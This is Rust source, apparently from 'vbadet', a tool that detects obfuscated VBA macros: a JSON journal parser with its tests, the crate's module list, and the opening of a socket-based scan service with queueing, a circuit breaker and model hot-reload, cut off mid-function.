                .and_then(FailureClass::from_label)
                .ok_or("failed outcome without a valid class")?,
            detail: j
                .get("detail")
                .and_then(Json::as_str)
                .ok_or("failed outcome without detail")?
                .to_string(),
        }),
        other => Err(format!("unknown outcome kind {other:?}")),
    }
}

// ---------------------------------------------------------------------------
// Minimal JSON
// ---------------------------------------------------------------------------

pub(crate) fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A parsed JSON value. Just enough for the journal format; objects keep
/// insertion order in a vector because lookups are tiny.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Json {
    Null,
    Bool(bool),
    Num(f64),
    Str(String),
    Arr(Vec<Json>),
    Obj(Vec<(String, Json)>),
}

impl Json {
    pub(crate) fn get(&self, key: &str) -> Option<&Json> {
        match self {
            Json::Obj(pairs) => pairs.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    pub(crate) fn as_str(&self) -> Option<&str> {
        match self {
            Json::Str(s) => Some(s),
            _ => None,
        }
    }

    pub(crate) fn as_bool(&self) -> Option<bool> {
        match self {
            Json::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub(crate) fn as_f64(&self) -> Option<f64> {
        match self {
            Json::Num(n) => Some(*n),
            _ => None,
        }
    }

    pub(crate) fn as_u64(&self) -> Option<u64> {
        match self {
            Json::Num(n) if *n >= 0.0 && n.fract() == 0.0 => Some(*n as u64),
            _ => None,
        }
    }

    pub(crate) fn as_arr(&self) -> Option<&[Json]> {
        match self {
            Json::Arr(items) => Some(items),
            _ => None,
        }
    }
}

pub(crate) fn parse_json(text: &str) -> Result<Json, String> {
    let mut p = Parser {
        bytes: text.as_bytes(),
        pos: 0,
    };
    p.skip_ws();
    let value = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(format!("trailing bytes at offset {}", p.pos));
    }
    Ok(value)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, b: u8) -> Result<(), String> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected {:?} at offset {}", b as char, self.pos))
        }
    }

    fn literal(&mut self, word: &str, value: Json) -> Result<Json, String> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(format!("bad literal at offset {}", self.pos))
        }
    }

    fn value(&mut self) -> Result<Json, String> {
        match self.peek().ok_or("unexpected end of input")? {
            b'n' => self.literal("null", Json::Null),
            b't' => self.literal("true", Json::Bool(true)),
            b'f' => self.literal("false", Json::Bool(false)),
            b'"' => Ok(Json::Str(self.string()?)),
            b'[' => self.array(),
            b'{' => self.object(),
            b'-' | b'0'..=b'9' => self.number(),
            other => Err(format!(
                "unexpected byte {:?} at offset {}",
                other as char, self.pos
            )),
        }
    }

    fn string(&mut self) -> Result<String, String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek().ok_or("unterminated string")? {
                b'"' => {
                    self.pos += 1;
                    return Ok(out);
                }
                b'\\' => {
                    self.pos += 1;
                    let esc = self.peek().ok_or("unterminated escape")?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'b' => out.push('\u{8}'),
                        b'f' => out.push('\u{c}'),
                        b'u' => {
                            let high = self.hex4()?;
                            let code = if (0xD800..0xDC00).contains(&high) {
                                // Surrogate pair: require the low half.
                                if self.peek() != Some(b'\\') {
                                    return Err("lone high surrogate".to_string());
                                }
                                self.pos += 1;
                                self.expect(b'u')?;
                                let low = self.hex4()?;
                                if !(0xDC00..0xE000).contains(&low) {
                                    return Err("bad low surrogate".to_string());
                                }
                                0x10000 + ((high - 0xD800) << 10) + (low - 0xDC00)
                            } else {
                                high
                            };
                            out.push(
                                char::from_u32(code)
                                    .ok_or_else(|| "bad unicode escape".to_string())?,
                            );
                        }
                        other => return Err(format!("bad escape {:?}", other as char)),
                    }
                }
                _ => {
                    // Consume one UTF-8 scalar (the input came from &str,
                    // so boundaries are valid).
                    let rest = std::str::from_utf8(&self.bytes[self.pos..])
                        .map_err(|_| "invalid utf-8".to_string())?;
                    let c = rest.chars().next().ok_or("unterminated string")?;
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, String> {
        if self.pos + 4 > self.bytes.len() {
            return Err("truncated unicode escape".to_string());
        }
        let hex = std::str::from_utf8(&self.bytes[self.pos..self.pos + 4])
            .map_err(|_| "bad unicode escape".to_string())?;
        let code = u32::from_str_radix(hex, 16).map_err(|_| "bad unicode escape".to_string())?;
        self.pos += 4;
        Ok(code)
    }

    fn number(&mut self) -> Result<Json, String> {
        let start = self.pos;
        while matches!(
            self.peek(),
            Some(b'-' | b'+' | b'.' | b'e' | b'E' | b'0'..=b'9')
        ) {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).unwrap();
        text.parse::<f64>()
            .map(Json::Num)
            .map_err(|_| format!("bad number {text:?} at offset {start}"))
    }

    fn array(&mut self) -> Result<Json, String> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(format!("expected ',' or ']' at offset {}", self.pos)),
            }
        }
    }

    fn object(&mut self) -> Result<Json, String> {
        self.expect(b'{')?;
        let mut pairs = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(pairs));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            pairs.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(pairs));
                }
                _ => return Err(format!("expected ',' or '}}' at offset {}", self.pos)),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn temp_path(tag: &str) -> PathBuf {
        std::env::temp_dir().join(format!("vbadet-journal-{tag}-{}.jsonl", std::process::id()))
    }

    fn sample_records() -> Vec<ScanRecord> {
        let verdict = |name: &str, obf: bool, score: f64| ModuleVerdict {
            module_name: name.to_string(),
            verdict: Verdict {
                obfuscated: obf,
                score,
            },
        };
        vec![
            ScanRecord {
                path: PathBuf::from("a.doc"),
                outcome: ScanOutcome::Clean,
            },
            ScanRecord {
                path: PathBuf::from("dir with spaces/b\"quoted\".docm"),
                outcome: ScanOutcome::Macros(vec![
                    verdict("Module1", true, 1.25),
                    verdict("Thïs–Dòc", false, -0.037_251_123_4),
                ]),
            },
            ScanRecord {
                path: PathBuf::from("c.xls"),
                outcome: ScanOutcome::Salvaged(vec![verdict("salvaged_1", true, 3.5)]),
            },
            ScanRecord {
                path: PathBuf::from("d.bin"),
                outcome: ScanOutcome::Recovered {
                    rung: LadderRung::Salvage,
                    verdicts: vec![verdict("salvaged_1", false, -0.5)],
                },
            },
            ScanRecord {
                path: PathBuf::from("e.doc"),
                outcome: ScanOutcome::Failed {
                    class: FailureClass::Timeout,
                    detail: "scan budget exceeded: deadline\nsecond line".to_string(),
                },
            },
        ]
    }

    #[test]
    fn journal_round_trips_every_outcome_kind() {
        let path = temp_path("roundtrip");
        let records = sample_records();
        let mut journal = ScanJournal::create(&path).unwrap();
        for r in &records {
            journal.begin(&r.path.display().to_string()).unwrap();
            journal.done(r).unwrap();
        }
        journal.sync().unwrap();
        let replay = replay_journal(&path).unwrap();
        std::fs::remove_file(&path).ok();
        assert!(replay.warning.is_none());
        assert!(replay.in_flight.is_empty());
        assert_eq!(replay.completed_count(), records.len());
        for r in &records {
            assert_eq!(
                replay.outcome_for(&r.path.display().to_string()),
                Some(&r.outcome),
                "outcome mismatch for {}",
                r.path.display()
            );
        }
    }

    #[test]
    fn torn_tail_degrades_to_warning_and_in_flight() {
        let path = temp_path("torn");
        let records = sample_records();
        {
            let mut journal = ScanJournal::create(&path).unwrap();
            for r in &records[..2] {
                journal.begin(&r.path.display().to_string()).unwrap();
                journal.done(r).unwrap();
            }
            journal.begin("mid-flight.doc").unwrap();
        }
        // Append half a record, as a crash mid-write would.
        {
            use std::io::Write;
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(&path)
                .unwrap();
            f.write_all(b"{\"event\":\"done\",\"path\":\"mid-fl")
                .unwrap();
        }
        let replay = replay_journal(&path).unwrap();
        std::fs::remove_file(&path).ok();
        assert_eq!(replay.completed_count(), 2);
        assert_eq!(replay.in_flight, vec!["mid-flight.doc".to_string()]);
        let warning = replay.warning.expect("torn tail must set a warning");
        assert!(warning.contains("damaged"), "unexpected warning: {warning}");
    }

    #[test]
    fn duplicate_path_entries_resolve_last_wins() {
        // A resumed-and-rejournaled run (or a rescan appended by an
        // operator) can record the same path twice; the later outcome is
        // the one a resume must trust.
        let path = temp_path("dup");
        let mut journal = ScanJournal::create(&path).unwrap();
        let first = ScanRecord {
            path: PathBuf::from("x.doc"),
            outcome: ScanOutcome::Clean,
        };
        let second = ScanRecord {
            path: PathBuf::from("x.doc"),
            outcome: ScanOutcome::Failed {
                class: FailureClass::Truncated,
                detail: "rescan saw a shorter file".to_string(),
            },
        };
        journal.begin("x.doc").unwrap();
        journal.done(&first).unwrap();
        journal.begin("x.doc").unwrap();
        journal.done(&second).unwrap();
        journal.sync().unwrap();
        let replay = replay_journal(&path).unwrap();
        std::fs::remove_file(&path).ok();
        assert_eq!(replay.completed_count(), 1);
        assert_eq!(replay.outcome_for("x.doc"), Some(&second.outcome));
        assert!(replay.in_flight.is_empty());
        assert!(replay.warning.is_none());
    }

    #[test]
    fn empty_journal_file_is_a_typed_error() {
        let path = temp_path("empty");
        std::fs::write(&path, "").unwrap();
        let err = replay_journal(&path).unwrap_err();
        std::fs::remove_file(&path).ok();
        assert_eq!(err.kind(), io::ErrorKind::InvalidData);
        assert!(err.to_string().contains("empty journal"), "got {err}");
    }

    #[test]
    fn header_only_journal_replays_to_nothing() {
        // A run killed immediately after creation leaves just the header:
        // a valid journal with zero decided documents and no damage.
        let path = temp_path("header-only");
        ScanJournal::create(&path).unwrap();
        let replay = replay_journal(&path).unwrap();
        std::fs::remove_file(&path).ok();
        assert_eq!(replay.completed_count(), 0);
        assert!(replay.in_flight.is_empty());
        assert!(replay.warning.is_none());
    }

    #[test]
    fn journal_with_every_body_line_torn_degrades_to_a_warning() {
        let path = temp_path("all-torn");
        {
            ScanJournal::create(&path).unwrap();
            use std::io::Write;
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(&path)
                .unwrap();
            f.write_all(b"{\"event\":\"done\",\"pa\n{\"event\nnot json\n")
                .unwrap();
        }
        let replay = replay_journal(&path).unwrap();
        std::fs::remove_file(&path).ok();
        // Damage at the first body line: nothing replayed, nothing
        // in-flight, and the warning points at line 2 (header is line 1).
        assert_eq!(replay.completed_count(), 0);
        assert!(replay.in_flight.is_empty());
        let warning = replay.warning.expect("torn body must warn");
        assert!(warning.contains("line 2"), "unexpected warning: {warning}");
    }

    #[test]
    fn foreign_files_are_rejected_not_replayed() {
        let path = temp_path("foreign");
        std::fs::write(&path, "{\"format\":\"something-else\",\"version\":1}\n").unwrap();
        assert!(replay_journal(&path).is_err());
        std::fs::write(&path, "not json at all\n").unwrap();
        assert!(replay_journal(&path).is_err());
        std::fs::write(&path, "").unwrap();
        assert!(replay_journal(&path).is_err());
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn float_formatting_round_trips_exactly() {
        for x in [
            0.0,
            -0.0,
            1.0,
            -1.25,
            0.1,
            1e300,
            -3.337e-10,
            f64::MIN_POSITIVE,
        ] {
            let printed = fmt_f64(x);
            let back: f64 = printed.parse().unwrap();
            assert_eq!(back.to_bits(), x.to_bits(), "{x} printed as {printed}");
        }
        assert_eq!(fmt_f64(f64::INFINITY), "null");
    }

    #[test]
    fn parser_handles_escapes_and_nesting() {
        let j = parse_json(
            "{\"a\": [1, -2.5, true, null], \"b\": {\"c\": \"x\\n\\\"y\\\" \\u00e9 \\ud83d\\ude00\"}}",
        )
        .unwrap();
        assert_eq!(
            j.get("a").and_then(Json::as_arr).map(<[Json]>::len),
            Some(4)
        );
        assert_eq!(
            j.get("b").and_then(|b| b.get("c")).and_then(Json::as_str),
            Some("x\n\"y\" é 😀")
        );
        assert!(parse_json("{\"a\":}").is_err());
        assert!(parse_json("{} trailing").is_err());
    }
}
