//! Obfuscated VBA macro detection — the paper's end-to-end pipeline.
//!
//! Reproduction of *"Obfuscated VBA Macro Detection Using Machine
//! Learning"* (Kim, Hong, Oh, Lee — DSN 2018): document container parsing,
//! VBA macro extraction, the paper's preprocessing (§IV.B), the V1–V15 /
//! J1–J20 feature sets, and five classifiers evaluated with 10-fold
//! cross-validation.
//!
//! The crate stitches the substrates together:
//! [`extract`] (documents → macro sources), [`detector`] (the
//! train-then-scan public API) and [`experiment`] (drivers that regenerate
//! every table and figure of the paper's evaluation section).
//!
//! # Quickstart
//!
//! ```
//! use vbadet::{Detector, DetectorConfig};
//! use vbadet_corpus::CorpusSpec;
//!
//! // Train on a (scaled-down) synthetic corpus...
//! let spec = CorpusSpec::paper().scaled(0.03);
//! let detector = Detector::train_on_corpus(&DetectorConfig::default(), &spec);
//!
//! // ...then score macro source code.
//! let plain = "Sub Report()\r\n    Range(\"A1\").Value = 42\r\nEnd Sub\r\n";
//! assert!(!detector.is_obfuscated(plain));
//! ```

pub mod anti_analysis_scan;
pub mod detector;
mod error;
pub mod experiment;
pub mod extract;
pub mod journal;
pub mod limits;
pub mod memguard;
pub mod preprocess;
pub mod scan;
pub mod serve;
pub mod signature;
pub mod threshold;

pub use anti_analysis_scan::{scan_anti_analysis, AntiAnalysisIndicator};
pub use detector::{
    ClassifierKind, Detector, DetectorConfig, ModuleVerdict, ScoreScratch, Verdict,
};
pub use error::DetectError;
pub use extract::{
    extract_macros, extract_macros_bounded, extract_macros_with_limits, ContainerKind,
    ExtractedMacro, Extraction, ExtractionStatus,
};
pub use journal::{replay_journal, JournalReplay, ScanJournal};
pub use limits::ScanLimits;
pub use memguard::TrackingAllocator;
pub use preprocess::preprocess_macros;
pub use scan::isolate::{worker_main, IsolateConfig};
pub use scan::{
    scan_bytes, scan_bytes_with_policy, scan_documents, scan_documents_with_policy, scan_paths,
    scan_paths_journaled, scan_paths_parallel, scan_paths_with_policy, FailureClass, LadderRung,
    ScanCache, ScanOutcome, ScanPolicy, ScanRecord, ScanReport,
};
pub use serve::{request_reload, reset_reload_requests};
pub use serve::{serve, Listener, ServeConfig, ServeSummary};
pub use signature::SignatureScanner;
pub use threshold::{tune_threshold, OperatingPoint, ThresholdPolicy};
pub use vbadet_faultpoint::{Budget, BudgetExceeded};
pub use vbadet_metrics::{Counter, HistogramSnapshot, MetricsSink, ScanMetrics, Stage};
