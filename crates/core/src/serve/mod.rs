//! Resident scan service: the batch engine's robustness envelope behind
//! a socket.
//!
//! [`serve`] runs a long-lived daemon on a Unix or TCP [`Listener`],
//! speaking the newline-delimited request/response protocol of [`proto`]
//! (`scan <path>`, inline `bytes_hex` documents, `metrics`, `health`,
//! `ready`). Every scan runs through the same machinery the batch CLI
//! uses — [`ScanPolicy`] budgets, the degradation ladder, and (when the
//! policy carries an [`IsolateConfig`](crate::scan::IsolateConfig)) the
//! process-isolation supervisor, so a hostile document costs one worker
//! process, never the service.
//!
//! The service layer adds what a one-shot batch does not need:
//!
//! - **Bounded admission.** Requests pass through a fixed-depth queue;
//!   when it is full the request is *shed* with a typed `overloaded`
//!   rejection — never silently dropped, never buffered unboundedly.
//! - **Circuit breaker** ([`breaker`]): repeated worker crash-loops open
//!   the breaker, scans are rejected fast with a `retry_ms` hint, and
//!   exponential-backoff probes feel for recovery.
//! - **Exactly one terminal response** per request line: every admitted,
//!   shed, rejected or malformed request gets precisely one reply, and a
//!   drop guard backstops any path that would otherwise leak a request.
//! - **Graceful drain**: when the process-global [`interrupt`] latch
//!   fires (SIGTERM/SIGINT in the CLI), the service stops accepting,
//!   finishes everything in flight, retires its workers, flushes the
//!   audit journal and returns a [`ServeSummary`].
//! - **Zero-downtime model hot-reload**: the `reload <path>` verb (or
//!   SIGHUP via [`request_reload`]) atomically swaps in a freshly loaded
//!   detector behind a monotonic *generation* counter. Every request is
//!   pinned at admission to the generation that admitted it — a document
//!   is scanned entirely by one model version — isolate worker slots are
//!   rebuilt lazily on their next request, the detector-fingerprint cache
//!   key turns old-generation entries into clean misses, and a malformed
//!   model file is rejected with a typed `reload-failed` response that
//!   leaves the old generation serving. The `model` verb reports what is
//!   live.
//!
//! Unlike batch reports, service metrics make no determinism promise —
//! request interleaving is inherently racy — so the serve counters all
//! live on the histogram side of [`ScanMetrics`].

use std::collections::HashMap;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
#[cfg(unix)]
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{mpsc, Arc, Condvar, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use crate::detector::Detector;
use crate::journal::{json_str, outcome_json, ScanJournal};
use crate::scan::cache;
use crate::scan::isolate::{default_heartbeat, file_stamp, hello_frame, Slot};
use crate::scan::{
    interrupt, read_file_checked, record_outcome, scan_bytes_cached_digest, scan_bytes_with_policy,
    scan_file, FailureClass, JournalSink, ScanOutcome, ScanPolicy, ScanRecord,
};
use vbadet_metrics::{MetricsSink, ScanMetrics, Stage};

mod breaker;
pub mod proto;

use breaker::{Admission, Breaker};
pub use proto::{parse_request, Request, ScanTarget, Verb, MAX_REQUEST_LINE_BYTES};

/// Everything that shapes the service's robustness envelope.
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Scan policy applied to every request (budgets, ladder, limits,
    /// isolation). [`serve`] forces the policy's metrics sink on — the
    /// `metrics` verb must always have something to report.
    pub policy: ScanPolicy,
    /// Scan worker threads (each owning one isolate slot when the policy
    /// isolates). Clamped to at least 1.
    pub workers: usize,
    /// Admission queue depth; a request arriving when the queue holds
    /// this many is shed with a typed `overloaded` rejection.
    pub queue_depth: usize,
    /// Consecutive fatal (worker-death) outcomes that open the breaker.
    pub breaker_threshold: u32,
    /// Base cooldown of the breaker's exponential backoff.
    pub breaker_backoff: Duration,
    /// Poll interval for the accept loop and the connection readers'
    /// drain checks; bounds how stale a drain request can go unnoticed.
    pub drain_poll: Duration,
    /// Model file a SIGHUP-style [`request_reload`] reloads from —
    /// normally the CLI's `--model` path, so operators overwrite the file
    /// and signal the daemon. `None` makes signal-driven reloads no-ops
    /// (the `reload <path>` wire verb still works).
    pub reload_path: Option<PathBuf>,
}

impl ServeConfig {
    /// Service defaults around the given scan policy.
    pub fn new(policy: ScanPolicy) -> Self {
        ServeConfig {
            policy,
            workers: 2,
            queue_depth: 64,
            breaker_threshold: 3,
            breaker_backoff: Duration::from_millis(500),
            drain_poll: Duration::from_millis(25),
            reload_path: None,
        }
    }
}

/// Process-global hot-reload latch, the SIGHUP analogue of
/// [`interrupt::request_drain`]'s drain latch: the accept loop polls it
/// once per tick and reloads from [`ServeConfig::reload_path`].
static RELOAD_REQUESTED: AtomicBool = AtomicBool::new(false);

/// Requests a model hot-reload from the serving config's `reload_path`,
/// exactly as if a `reload` wire request had arrived for that path. A
/// single atomic store, so it is async-signal-safe — the CLI's SIGHUP
/// handler calls this.
pub fn request_reload() {
    RELOAD_REQUESTED.store(true, Ordering::SeqCst);
}

/// Clears any pending reload request (hygiene between servers in tests).
pub fn reset_reload_requests() {
    RELOAD_REQUESTED.store(false, Ordering::SeqCst);
}

fn take_reload_request() -> bool {
    RELOAD_REQUESTED.swap(false, Ordering::SeqCst)
}

/// The socket the service listens on.
pub enum Listener {
    /// A Unix-domain socket (the default transport).
    #[cfg(unix)]
    Unix(UnixListener),
    /// A TCP socket, for cross-host deployments.
    Tcp(TcpListener),
}

impl Listener {
    /// Binds a Unix socket at `path`, replacing a stale socket file left
    /// by a previous run. Only an actual socket is ever unlinked: a
    /// regular file, directory or device at the path (a typo'd `--socket
    /// /etc/passwd`, say) is refused with a typed error rather than
    /// silently destroyed.
    ///
    /// # Errors
    ///
    /// The path exists but is not a socket, or any I/O error removing the
    /// stale socket or binding.
    #[cfg(unix)]
    pub fn bind_unix<P: AsRef<Path>>(path: P) -> io::Result<Listener> {
        use std::os::unix::fs::FileTypeExt;
        let path = path.as_ref();
        match std::fs::symlink_metadata(path) {
            Ok(meta) if meta.file_type().is_socket() => std::fs::remove_file(path)?,
            Ok(meta) => {
                return Err(io::Error::new(
                    io::ErrorKind::AlreadyExists,
                    format!(
                        "refusing to replace {}: it is {}, not a socket",
                        path.display(),
                        file_type_label(&meta.file_type()),
                    ),
                ));
            }
            Err(e) if e.kind() == io::ErrorKind::NotFound => {}
            Err(e) => return Err(e),
        }
        let listener = UnixListener::bind(path)?;
        listener.set_nonblocking(true)?;
        Ok(Listener::Unix(listener))
    }

    /// Binds a TCP socket at `addr` (e.g. `127.0.0.1:7087`; port 0 picks
    /// an ephemeral port, readable back via [`Listener::tcp_addr`]).
    ///
    /// # Errors
    ///
    /// Any I/O error binding.
    pub fn bind_tcp(addr: &str) -> io::Result<Listener> {
        let listener = TcpListener::bind(addr)?;
        listener.set_nonblocking(true)?;
        Ok(Listener::Tcp(listener))
    }

    /// The bound TCP address, when this is a TCP listener.
    pub fn tcp_addr(&self) -> Option<SocketAddr> {
        match self {
            #[cfg(unix)]
            Listener::Unix(_) => None,
            Listener::Tcp(l) => l.local_addr().ok(),
        }
    }

    /// Non-blocking accept: `Ok(None)` means nobody is waiting.
    fn accept(&self) -> io::Result<Option<Box<dyn Stream>>> {
        match self {
            #[cfg(unix)]
            Listener::Unix(l) => match l.accept() {
                Ok((s, _)) => Ok(Some(Box::new(s))),
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => Ok(None),
                Err(e) => Err(e),
            },
            Listener::Tcp(l) => match l.accept() {
                Ok((s, _)) => {
                    // Request/response over small lines: Nagle + delayed
                    // ACK would add ~40 ms to every round trip.
                    let _ = s.set_nodelay(true);
                    Ok(Some(Box::new(s)))
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => Ok(None),
                Err(e) => Err(e),
            },
        }
    }
}

#[cfg(unix)]
fn file_type_label(ft: &std::fs::FileType) -> &'static str {
    use std::os::unix::fs::FileTypeExt;
    if ft.is_dir() {
        "a directory"
    } else if ft.is_symlink() {
        "a symlink"
    } else if ft.is_fifo() {
        "a fifo"
    } else if ft.is_block_device() || ft.is_char_device() {
        "a device"
    } else {
        "a regular file"
    }
}

/// The two stream types behind one object: a connection only needs
/// read/write plus a read timeout (the drain-poll heartbeat).
trait Stream: Read + Write + Send {
    fn set_read_timeout(&self, dur: Option<Duration>) -> io::Result<()>;
}

#[cfg(unix)]
impl Stream for UnixStream {
    fn set_read_timeout(&self, dur: Option<Duration>) -> io::Result<()> {
        UnixStream::set_read_timeout(self, dur)
    }
}

impl Stream for TcpStream {
    fn set_read_timeout(&self, dur: Option<Duration>) -> io::Result<()> {
        TcpStream::set_read_timeout(self, dur)
    }
}

/// What the service did over its lifetime, returned when the drain
/// completes.
#[derive(Debug)]
pub struct ServeSummary {
    /// Scan requests admitted past the queue.
    pub accepted: u64,
    /// Scan requests shed with `overloaded`.
    pub shed: u64,
    /// Terminal responses written (every request line gets exactly one).
    pub responses: u64,
    /// Always true: [`serve`] only returns via a graceful drain.
    pub drained: bool,
    /// First audit-journal write error, if journaling broke mid-run.
    pub journal_error: Option<String>,
    /// Final service-wide metrics snapshot.
    pub metrics: Option<ScanMetrics>,
}

/// One admitted request travelling from a connection thread to a scan
/// worker. `reply` carries the single terminal outcome back.
struct Job {
    target: ScanTarget,
    /// Journal key: the path, or `inline:<n>` for inline bytes.
    key: String,
    /// Whether this is the breaker's half-open probe.
    probe: bool,
    /// The detector generation live at admission. The pinning invariant:
    /// this job is scanned *entirely* by this generation's detector and
    /// cache binding, however many reloads land while it waits in the
    /// queue — never a mid-scan mix of model versions.
    generation: Arc<Generation>,
    reply: mpsc::SyncSender<ScanOutcome>,
    /// Admission time, for the request-latency histogram.
    admitted: Instant,
}

/// One loaded detector version: everything a request needs to be scanned
/// coherently under a single model. Immutable once published — a reload
/// builds a whole new `Generation` and swaps the `Arc`, so requests
/// pinned to the old one keep a consistent (detector, cache-binding)
/// pair until the last of them drops it.
struct Generation {
    /// Monotonic registry counter, starting at 1 for the startup model.
    number: u64,
    detector: Detector,
    /// This generation's cache binding. The bound key embeds the
    /// detector fingerprint, so entries inserted by older generations are
    /// clean misses here — no flush, no epoch bookkeeping.
    bound: Option<cache::BoundCache>,
    /// FNV-1a-64 of the detector's canonical save() text; what the cache
    /// key embeds and what `model` reports.
    fingerprint: u64,
    /// Where the model came from: the reload path, or "startup".
    version: String,
    loaded: Instant,
}

/// State shared by the accept loop, connection threads and workers.
struct Shared<'a> {
    config: &'a ServeConfig,
    /// `config.policy` with the metrics sink forced on.
    policy: ScanPolicy,
    /// The live generation. Lock scope is a clone or a swap — never held
    /// across a scan or a model load.
    generation: Mutex<Arc<Generation>>,
    /// Serializes reloads end to end (file read, parse, swap): concurrent
    /// `reload` requests queue here and the last to swap owns the final
    /// generation number.
    reload_serial: Mutex<()>,
    breaker: Breaker,
    /// Live queue depth (incremented at admission, decremented at
    /// dequeue).
    depth: AtomicUsize,
    accepted: AtomicU64,
    shed: AtomicU64,
    responses: AtomicU64,
    inline_seq: AtomicU64,
    journal: Mutex<JournalSink<'a>>,
    /// Single-flight table: one [`Flight`] per cache key currently being
    /// scanned, so concurrent identical documents (a `scan <path>` and a
    /// `bytes_hex` of the same content, say) cost one scan and share its
    /// terminal outcome. Keys embed the detector fingerprint, so flights
    /// from different generations never alias.
    inflight: Mutex<HashMap<cache::Key, Arc<Flight>>>,
}

impl Shared<'_> {
    /// The generation a request arriving now is pinned to.
    fn current(&self) -> Arc<Generation> {
        Arc::clone(&self.generation.lock().expect("generation lock poisoned"))
    }
}

/// Rendezvous for in-flight duplicate scans. The leader (first arrival
/// for a key) scans and publishes `(outcome, deltas)`; followers block on
/// the condvar and replay the published result. Leaders never wait on a
/// flight, so the table cannot deadlock.
struct Flight {
    result: Mutex<Option<(ScanOutcome, cache::Deltas)>>,
    cv: Condvar,
}

impl Flight {
    fn new() -> Flight {
        Flight {
            result: Mutex::new(None),
            cv: Condvar::new(),
        }
    }
}

/// Runs the service until the process-global [`interrupt`] latch fires,
/// then drains: stops accepting, finishes every in-flight request,
/// retires workers (isolate children are shut down cleanly), flushes the
/// journal and reports.
///
/// The latch is the *only* way out — callers (the CLI's signal handlers,
/// tests) request shutdown via [`interrupt::request_drain`].
pub fn serve(
    listener: &Listener,
    detector: &Detector,
    config: &ServeConfig,
    journal: Option<&mut ScanJournal>,
) -> ServeSummary {
    let mut policy = config.policy.clone();
    if !policy.metrics.is_enabled() {
        policy.metrics = MetricsSink::enabled();
    }
    let metrics = policy.metrics.clone();
    // Generation 1 owns its detector by round-tripping the caller's
    // through save()/load() — the same proven path the isolate hello
    // frame ships detectors over, so scoring is identical by contract.
    let initial =
        Detector::load(&detector.save()).expect("a live detector's save() text always loads back");
    let shared = Shared {
        config,
        generation: Mutex::new(Arc::new(Generation {
            number: 1,
            bound: cache::BoundCache::bind(&initial, &policy),
            fingerprint: cache::detector_fingerprint(&initial),
            detector: initial,
            version: config
                .reload_path
                .as_ref()
                .map_or_else(|| "startup".to_string(), |p| p.display().to_string()),
            loaded: Instant::now(),
        })),
        reload_serial: Mutex::new(()),
        breaker: Breaker::new(
            config.breaker_threshold,
            config.breaker_backoff,
            metrics.clone(),
        ),
        depth: AtomicUsize::new(0),
        accepted: AtomicU64::new(0),
        shed: AtomicU64::new(0),
        responses: AtomicU64::new(0),
        inline_seq: AtomicU64::new(0),
        journal: Mutex::new(JournalSink::new(journal, metrics.clone())),
        inflight: Mutex::new(HashMap::new()),
        policy,
    };
    let workers = config.workers.max(1);
    let queue_depth = config.queue_depth.max(1);

    thread::scope(|scope| {
        let (tx, rx) = mpsc::sync_channel::<Job>(queue_depth);
        // Workers share one receiver; dequeue is inherently serial, so a
        // mutex-guarded receiver costs nothing over fancier fan-out.
        let rx = Arc::new(Mutex::new(rx));
        for _ in 0..workers {
            let rx = Arc::clone(&rx);
            let shared = &shared;
            scope.spawn(move || worker_loop(shared, &rx));
        }
        loop {
            if interrupt::drain_requested() {
                break;
            }
            if take_reload_request() {
                // Signal-driven reload: same path as the wire verb, but
                // with no client to answer — success and failure land in
                // the reload.* metrics instead.
                match &shared.config.reload_path {
                    Some(path) => {
                        let _ = try_reload(&shared, &path.display().to_string());
                    }
